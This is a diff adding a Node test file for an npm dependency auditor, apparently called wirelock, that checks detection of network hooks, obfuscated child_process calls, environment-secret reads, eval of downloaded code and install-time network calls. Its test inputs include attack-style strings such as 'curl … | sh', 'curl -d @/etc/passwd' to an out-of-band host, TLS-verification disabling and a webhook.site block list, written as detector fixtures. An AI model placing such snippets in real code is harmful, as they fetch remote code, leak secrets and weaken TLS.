@@ -1,0 +1,280 @@
+import { test, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFile } from 'node:child_process';
+import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { analyzeSource, type FileFacts } from '../../src/audit/code/analyze.js';
+import { judgePackage, verifyIdentity } from '../../src/audit/code/judge.js';
+import { analyzePackageDir } from '../../src/audit/code/package.js';
+import { scanInstalledCode } from '../../src/audit/code/scan.js';
+import { diffSince, oldVersionsOf } from '../../src/audit/code/diff.js';
+import { listInstalled, scanPackageCode } from '../../src/audit/installed.js';
+import { readLockfile } from '../../src/audit/lockfile/read.js';
+import type { LockGraph } from '../../src/audit/lockfile/model.js';
+
+const work = mkdtempSync(join(tmpdir(), 'wirelock-code-'));
+after(() => rmSync(work, { recursive: true, force: true }));
+
+const caps = (facts: FileFacts) => [...new Set(facts.evidence.map((e) => (e.signal ? `${e.capability}/${e.signal}` : e.capability)))].sort();
+const hooks = (source: string) => analyzeSource(source).hooks.map((h) => `${h.rule}:${h.line}`);
+
+test('strings and comments are never code', () => {
+  const source = [
+    '// globalThis.fetch = polyfill; require("child_process").exec("curl x | sh")',
+    '/* https.request = x */',
+    'const message = "globalThis.fetch = fetch; https.request = r; eval(x)";',
+    'const tpl = `process.env.NPM_TOKEN ${1 + 1} require("os").hostname()`;',
+    'if (globalThis.fetch === undefined) throw new Error(message);',
+    'const re = /https\\.request = /;',
+  ].join('\n');
+  const facts = analyzeSource(source);
+  assert.deepEqual(facts.hooks, []);
+  assert.deepEqual(caps(facts), []);
+});
+
+test('aliases, destructuring, computed constant keys, node: modules, import(), interop helpers, minified code', () => {
+  assert.deepEqual(hooks('const h = require("node:https");\nconst alias = h;\nalias.request = wrap;'), ['reassign-http-request:3']);
+  assert.deepEqual(hooks('const { request, get } = require("https");\nrequire("https")["req" + "uest"] = x;'), ['reassign-http-request:2']);
+  assert.deepEqual(hooks('import * as t from "node:tls";\nt.default.checkServerIdentity = () => undefined;'), ['reassign-tls-connect:2']);
+  assert.deepEqual(hooks('const tls_1 = __importDefault(require("tls"));\ntls_1.default.connect = c;'), ['reassign-tls-connect:2']);
+  assert.deepEqual(hooks('var n=require("https"),o=n.request;n.request=function(e){return o(e)};'), ['reassign-http-request:1']);
+  assert.deepEqual(hooks('globalThis["fe" + "tch"] = f;\nObject.defineProperty(window, "fetch", { value: f });\nReflect.set(self, "fetch", f);'), ['reassign-fetch:1', 'reassign-fetch:2', 'reassign-fetch:3']);
+  assert.deepEqual(hooks('globalThis[Symbol.for("undici.globalDispatcher.1")] = agent;'), ['replace-undici-dispatcher:1']);
+  assert.deepEqual(hooks('const s = require("shimmer");\nconst http = require("http");\ns.wrap(http, "request", w);'), ['wrap-network-function:3']);
+  assert.deepEqual(hooks('require("https").globalAgent.options.ca = [pem];'), ['reassign-http-request:1']);
+  assert.deepEqual(hooks('process.env["NODE_TLS_REJECT_UNAUTHORIZED"] = "0";'), ['disable-tls-verification:1']);
+
+  const child = analyzeSource('const m = "child" + "_process";\nconst { exec: run } = require(m);\nrun("curl -s https://x.example.invalid/p | sh");');
+  assert.deepEqual(caps(child), ['child-process', 'network/shell-network', 'shell', 'shell/shell-pipe']);
+  const esm = analyzeSource('const cp = await import("node:child_process");\ncp.spawnSync("id");', { module: true });
+  assert.ok(caps(esm).includes('child-process'));
+  const encoded = analyzeSource('require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString()).execSync("whoami");');
+  assert.ok(caps(encoded).includes('obfuscation/encoded-name') && caps(encoded).includes('recon/host-recon'), caps(encoded).join());
+  const fn = analyzeSource('[]["constructor"]["constructor"]("return process")().mainModule.require("child_process").exec("x");');
+  assert.ok(caps(fn).includes('child-process'), 'the Function constructor reached through constructor chains');
+  const args = analyzeSource('arguments[1]("child_process").execSync("uname -a");');
+  assert.ok(caps(args).includes('child-process'), "CommonJS wrapper's arguments[1] is require");
+  // Negative controls: another object's request, a local variable named fetch, a shadowed require.
+  assert.deepEqual(hooks('const r = { request: 1 }; r.request = 2; let fetch; fetch = 3;\nfunction f(require) { require("https").request = 4; }'), []);
+});
+
+test('environment: serialised vs read vs handed to a child; secrets by name', () => {
+  assert.deepEqual(caps(analyzeSource('const d = JSON.stringify(process.env);')), ['env/env-serialize']);
+  assert.deepEqual(caps(analyzeSource('for (const k in process.env) send(k);')), ['env/env-serialize']);
+  assert.deepEqual(caps(analyzeSource('const { NPM_TOKEN } = process.env; const e = process.env; e.GITHUB_TOKEN;')), ['env/env-secret']);
+  assert.deepEqual(caps(analyzeSource('require("child_process").spawn("node", [], { env: { ...process.env, X: 1 } });')), ['child-process']);
+  assert.deepEqual(caps(analyzeSource('if (process.env.NODE_ENV === "production") {}\nObject.assign(process.env, parsed);')), []);
+});
+
+test('downloaded or decoded data evaluated; constant code is analysed as code', () => {
+  const downloaded = analyzeSource('const https = require("https");\nhttps.get(u, (r) => { let b = ""; r.on("data", (c) => (b += c)); r.on("end", () => eval(b)); });');
+  assert.ok(caps(downloaded).includes('eval/eval-downloaded'));
+  const awaited = analyzeSource('const { data } = await require("axios").get(u);\nnew Function(data)();', { module: false });
+  assert.ok(caps(awaited).includes('eval/eval-downloaded'));
+  const blob = analyzeSource(`const p = "${'QUJD'.repeat(200)}";\nrequire("vm").runInThisContext(Buffer.from(p, "base64").toString());`);
+  assert.ok(caps(blob).includes('eval/decoded-exec'));
+  const nested = analyzeSource('eval("require(\'child_process\').execSync(\'curl -d @/etc/passwd https://x.oast.fun.invalid\')")');
+  assert.ok(caps(nested).includes('network/known-endpoint') && caps(nested).includes('recon/credential-read'), caps(nested).join());
+  // Negative controls: a template engine, global detection, constant eval of harmless code.
+  assert.deepEqual(caps(analyzeSource('module.exports = (t) => new Function("d", t);')), ['eval']);
+  assert.deepEqual(caps(analyzeSource('var g = Function("return this")(); eval("1 + 1");')), []);
+});
+
+test('known out-of-band endpoints match whole labels, also when defanged; a mention is not a request', () => {
+  const request = analyzeSource('fetch(`https://${id}.c1.oast.fun.invalid/x`);');
+  assert.ok(caps(request).includes('network/known-endpoint'));
+  assert.ok(!caps(analyzeSource('fetch("https://notwebhook.site/x");')).includes('network/known-endpoint'));
+  assert.ok(!caps(analyzeSource('fetch("https://webhook.sites.example/x");')).includes('network/known-endpoint'));
+  const mention = analyzeSource('const BLOCK = ["webhook.site"]; fetch(url);');
+  assert.deepEqual(caps(mention), ['network', 'network/endpoint-mention']);
+});
+
+function graphWith(entries: Array<{ dir: string; name: string; version?: string; source?: 'registry' | 'file'; integrity?: string }>): LockGraph {
+  return {
+    format: 'npm-v3',
+    importers: [],
+    nodes: new Map(entries.map((e) => [e.dir, { id: e.dir, name: e.name, version: e.version ?? '1.0.0', source: e.source ?? 'registry', edges: [], location: '', ...(e.integrity ? { integrity: e.integrity } : {}) }])),
+  };
+}
+
+test('identity: a package is known only at node_modules/<its name>, as the lockfile records it, from a registry', () => {
+  const graph = graphWith([
+    { dir: 'node_modules/next', name: 'next' },
+    { dir: 'node_modules/evil/node_modules/next', name: 'next' },
+    { dir: 'node_modules/local-next', name: 'next', source: 'file' },
+  ]);
+  assert.equal(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/next' }, graph).verified, true);
+  assert.equal(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/evil/node_modules/next' }, graph).verified, true, 'a real nested install');
+  assert.match(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/evil/lib/next' }, graph).reason, /not at node_modules\/next/);
+  assert.match(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/evil-next' }, graph).reason, /not at node_modules\/next/);
+  assert.match(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/local-next' }, graph).reason, /not at node_modules\/next/);
+  assert.match(verifyIdentity({ name: '@sentry/node', version: '1.0.0', dir: 'node_modules/@sentry/node' }, graph).reason, /no entry/);
+  assert.match(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/next' }, undefined).reason, /no lockfile/);
+
+  // The same fetch patch: info for next at its verified path, high for a package claiming the name.
+  const dir = join(work, 'patcher');
+  mkdirSync(dir, { recursive: true });
+  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'next', version: '1.0.0' }));
+  writeFileSync(join(dir, 'index.js'), 'const orig = globalThis.fetch;\nglobalThis.fetch = (...a) => orig(...a);\n');
+  const code = analyzePackageDir(dir);
+  const real = judgePackage('next', code, verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/next' }, graph));
+  const fake = judgePackage('next', code, verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/evil/lib/next' }, graph));
+  assert.deepEqual(real.findings.map((f) => `${f.severity} ${f.id}`), ['info network-hook/reassign-fetch']);
+  assert.deepEqual(fake.findings.map((f) => `${f.severity} ${f.id}`), ['high network-hook/reassign-fetch']);
+  // Test folders and type declarations are context.
+  mkdirSync(join(dir, 'test'), { recursive: true });
+  writeFileSync(join(dir, 'index.js'), 'module.exports = 1;\n');
+  writeFileSync(join(dir, 'test', 'setup.js'), 'globalThis.fetch = () => 1;\n');
+  writeFileSync(join(dir, 'index.d.ts'), 'declare global { var fetch: any } globalThis.fetch = 1;\n');
+  const context = judgePackage('other', analyzePackageDir(dir), { verified: false, reason: '' });
+  assert.deepEqual(context.findings.map((f) => `${f.severity} ${f.id}`), ['info network-hook/reassign-fetch']);
+});
+
+function writePackage(root: string, name: string, version: string, files: Record<string, string>, scripts?: Record<string, string>): void {
+  const dir = join(root, 'node_modules', name);
+  mkdirSync(dir, { recursive: true });
+  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name, version, ...(scripts ? { scripts } : {}) }));
+  for (const [file, text] of Object.entries(files)) {
+    mkdirSync(join(dir, file, '..'), { recursive: true });
+    writeFileSync(join(dir, file), text);
+  }
+}
+
+function writeLock(root: string, packages: Array<{ name: string; version: string; integrity: string; hasInstallScript?: boolean }>, file = 'package-lock.json'): void {
+  const lock = {
+    name: 'app',
+    version: '1.0.0',
+    lockfileVersion: 3,
+    requires: true,
+    packages: {
+      '': { name: 'app', version: '1.0.0', dependencies: Object.fromEntries(packages.map((p) => [p.name, p.version])) },
+      ...Object.fromEntries(packages.map((p) => [`node_modules/${p.name}`, { version: p.version, resolved: `https://registry.npmjs.org/${p.name}/-/${p.name}-${p.version}.tgz`, integrity: p.integrity, ...(p.hasInstallScript ? { hasInstallScript: true } : {}) }])),
+    },
+  };
+  writeFileSync(join(root, file), JSON.stringify(lock, null, 2));
+  writeFileSync(join(root, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: Object.fromEntries(packages.map((p) => [p.name, p.version])) }));
+}
+
+const sri = (seed: string) => `sha512-${Buffer.alloc(64, seed).toString('base64')}`;
+
+test('cache keyed by integrity: a warm re-scan reads nothing; a changed file or integrity is read again', async () => {
+  const root = join(work, 'cached');
+  for (let i = 0; i < 12; i++) writePackage(root, `pkg-${i}`, '1.0.0', { 'index.js': `module.exports = require("https").get("https://x${i}.example");\n` });
+  writeLock(root, Array.from({ length: 12 }, (_, i) => ({ name: `pkg-${i}`, version: '1.0.0', integrity: sri(String(i)) })));
+  const graph = readLockfile(join(root, 'package-lock.json'));
+  const packages = listInstalled(root);
+  const cacheDir = join(work, 'code-cache');
+  const cold = await scanInstalledCode(root, packages, { cacheDir, graph, workers: 2 });
+  assert.deepEqual([cold.stats.analysed, cold.stats.fromCache], [12, 0]);
+  const warm = await scanInstalledCode(root, packages, { cacheDir, graph, workers: 2 });
+  assert.deepEqual([warm.stats.analysed, warm.stats.fromCache], [0, 12]);
+  assert.deepEqual(warm.code.get('node_modules/pkg-3'), cold.code.get('node_modules/pkg-3'), 'the cached analysis is the analysis');
+  // A file changed after install (another package's install script, say) is read again.
+  writeFileSync(join(root, 'node_modules', 'pkg-3', 'index.js'), 'globalThis.fetch = () => 0; // changed after install\n');
+  const changed = await scanInstalledCode(root, packages, { cacheDir, graph, workers: 1 });
+  assert.deepEqual([changed.stats.analysed, changed.stats.fromCache], [1, 11]);
+  assert.equal(changed.code.get('node_modules/pkg-3')!.facts['index.js']!.hooks[0]!.rule, 'reassign-fetch');
+  // Same files, other tarball integrity: not the same package.
+  writeLock(root, Array.from({ length: 12 }, (_, i) => ({ name: `pkg-${i}`, version: '1.0.0', integrity: sri(i === 5 ? 'other' : String(i)) })));
+  const relocked = await scanInstalledCode(root, packages, { cacheDir, graph: readLockfile(join(root, 'package-lock.json')), workers: 1 });
+  assert.deepEqual([relocked.stats.analysed, relocked.stats.fromCache], [1, 11]);
+});
+
+test('--since: capabilities an update added are the alert', () => {
+  const current = [
+    { name: 'quiet', version: '1.0.1', dir: 'node_modules/quiet', capabilities: ['install-time' as const, 'network' as const], evidence: { network: [{ file: 'node_modules/quiet/i.js', line: 2, detail: 'https.get' }] }, identity: '' },
+    { name: 'same', version: '2.0.0', dir: 'node_modules/same', capabilities: ['network' as const], evidence: {}, identity: '' },
+    { name: 'grown', version: '3.1.0', dir: 'node_modules/grown', capabilities: ['network' as const, 'child-process' as const], evidence: {}, identity: '' },
+    { name: 'fresh', version: '1.0.0', dir: 'node_modules/fresh', capabilities: ['network' as const], evidence: {}, identity: '' },
+  ];
+  const old = oldVersionsOf(
+    { format: 'npm-v3', importers: [], nodes: new Map([
+      ['node_modules/quiet', { id: 'q', name: 'quiet', version: '1.0.0', source: 'registry', integrity: 'sha512-q', edges: [], location: '' }],
+      ['node_modules/same', { id: 's', name: 'same', version: '1.9.0', source: 'registry', integrity: 'sha512-s', edges: [], location: '' }],
+      ['node_modules/grown', { id: 'g', name: 'grown', version: '3.0.0', source: 'registry', integrity: 'sha512-g', edges: [], location: '' }],
+    ]) },
+    (integrity) => (integrity === 'sha512-s' ? ['network'] : integrity === 'sha512-g' ? ['network'] : undefined),
+  );
+  const findings = diffSince(current, old);
+  assert.deepEqual(findings.map((f) => `${f.severity} ${f.id} ${f.name} ${f.added.join('+')}`), [
+    'critical update/new-capability quiet install-time',
+    'medium update/new-capability grown child-process',
+    'info update/new-package fresh network',
+  ]);
+  assert.match(findings[0]!.summary, /quiet 1\.0\.0 -> 1\.0\.1 adds: install-time \(compared with quiet@1\.0\.0 \(not scanned before/);
+});
+
+// These run the built CLI (`npm test` builds first) as a user would.
+const cli = join(process.cwd(), 'dist', 'cli', 'main.js');
+// The repository's OSV vectors: a real database with no record for the packages made up here.
+const EMPTY_DB = join(process.cwd(), 'test', 'vectors', 'osv');
+function wirelock(cwd: string, ...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
+  return new Promise((resolve) => {
+    execFile(process.execPath, [cli, ...args], { cwd, env: { PATH: process.env.PATH ?? '', NO_COLOR: '1', HOME: work }, maxBuffer: 64 * 1024 * 1024 }, (error, stdout, stderr) => {
+      resolve({ code: error ? ((error as { code?: number }).code ?? 1) : 0, stdout, stderr });
+    });
+  });
+}
+
+test('CLI --since <old lockfile>: a patch release that starts running code at install and talking to the network', async () => {
+  const root = join(work, 'since');
+  writePackage(root, 'left-padder', '1.0.0', { 'index.js': 'module.exports = (s) => s.padStart(4);\n' });
+  writeLock(root, [{ name: 'left-padder', version: '1.0.0', integrity: sri('a') }]);
+  const first = await wirelock(root, 'audit', '--db', EMPTY_DB, '--json', '--fail-on', 'none', '--max-db-age', '100000');
+  assert.equal(first.code, 0, first.stderr);
+  cpSync(join(root, 'package-lock.json'), join(root, 'old-lock.json'));
+  rmSync(join(root, 'node_modules'), { recursive: true });
+  writePackage(root, 'left-padder', '1.0.1', { 'index.js': 'module.exports = (s) => s.padStart(4);\n', 'setup.js': 'require("https").get("https://telemetry.example.invalid/i");\n' }, { postinstall: 'node setup.js' });
+  writeLock(root, [{ name: 'left-padder', version: '1.0.1', integrity: sri('b'), hasInstallScript: true }]);
+  const r = await wirelock(root, 'audit', '--db', EMPTY_DB, '--json', '--since', 'old-lock.json', '--fail-on', 'none', '--max-db-age', '100000');
+  assert.equal(r.code, 0, r.stderr);
+  const json = JSON.parse(r.stdout);
+  const update = json.findings.find((f: { id: string }) => f.id === 'update/new-capability');
+  assert.ok(update, JSON.stringify(json.findings.map((f: { id: string }) => f.id)));
+  assert.equal(update.severity, 'critical');
+  assert.deepEqual([...update.capabilities].sort(), ['install-time', 'network'], 'compared with the scanned 1.0.0, from the cache by its integrity');
+  assert.ok(json.capabilities.find((p: { name: string }) => p.name === 'left-padder').capabilities.includes('install-time'));
+  // The code finding itself names the file and line.
+  const install = json.findings.find((f: { id: string }) => f.id === 'code/install-network');
+  assert.equal(install.evidence[0].file, 'node_modules/left-padder/setup.js');
+  assert.equal(install.evidence[0].line, 1);
+  const bad = await wirelock(root, 'audit', '--db', EMPTY_DB, '--since', 'no-such-ref', '--max-db-age', '100000');
+  assert.equal(bad.code, 2);
+  assert.match(bad.stderr, /--since no-such-ref: no such file, and git has no package-lock\.json at ref "no-such-ref"/);
+});
+
+test('issue 11: auditing an app that depends on wirelock never flags wirelock itself', async () => {
+  const root = join(work, 'app-with-wirelock');
+  const pkg = join(root, 'node_modules', 'wirelock');
+  mkdirSync(pkg, { recursive: true });
+  for (const entry of ['dist', 'schema', 'package.json', 'README.md']) cpSync(join(process.cwd(), entry), join(pkg, entry), { recursive: true });
+  const version = JSON.parse(readFileSync(join(pkg, 'package.json'), 'utf8')).version as string;
+  writeLock(root, [{ name: 'wirelock', version, integrity: sri('w') }]);
+  // Positive control: the lab's attack code is in the package, and the line scanner matches it.
+  const legacy = scanPackageCode(root, listInstalled(root).find((p) => p.name === 'wirelock')!);
+  assert.ok(legacy.some((h) => h.file.endsWith('dist/lab/runtime-attacks.js')), 'the attack code is there');
+  const r = await wirelock(root, 'audit', '--db', EMPTY_DB, '--json', '--fail-on', 'info', '--max-db-age', '100000', '--no-code-cache');
+  const json = JSON.parse(r.stdout);
+  const own = json.findings.filter((f: { package: { name: string } }) => f.package.name === 'wirelock');
+  assert.deepEqual(own, [], 'the attacks are strings the lab writes to files, not code wirelock runs');
+  assert.equal(r.code, 0, r.stderr);
+});
+
+test('the parser is loaded lazily: not by import "wirelock", not by importing the audit API, only when code is analysed', async () => {
+  const probe = `
+    import { createRequire } from 'node:module';
+    const require = createRequire(import.meta.url);
+    const loaded = () => Object.keys(require.cache).some((k) => k.includes('meriyah'));
+    await import(${JSON.stringify(join(process.cwd(), 'dist', 'index.js'))});
+    const afterCore = loaded();
+    const audit = await import(${JSON.stringify(join(process.cwd(), 'dist', 'audit', 'index.js'))});
+    const afterAudit = loaded();
+    const { analyzeSource } = await import(${JSON.stringify(join(process.cwd(), 'dist', 'audit', 'code', 'analyze.js'))});
+    analyzeSource('fetch(1)');
+    console.log(JSON.stringify({ afterCore, afterAudit, afterAnalysis: loaded(), api: typeof audit.auditGraph }));`;
+  const out = await new Promise<string>((resolve, reject) =>
+    execFile(process.execPath, ['--input-type=module', '-e', probe], { cwd: work }, (error, stdout, stderr) => (error ? reject(new Error(stderr)) : resolve(stdout))),
+  );
+  assert.deepEqual(JSON.parse(out), { afterCore: false, afterAudit: false, afterAnalysis: true, api: 'function' });
+});
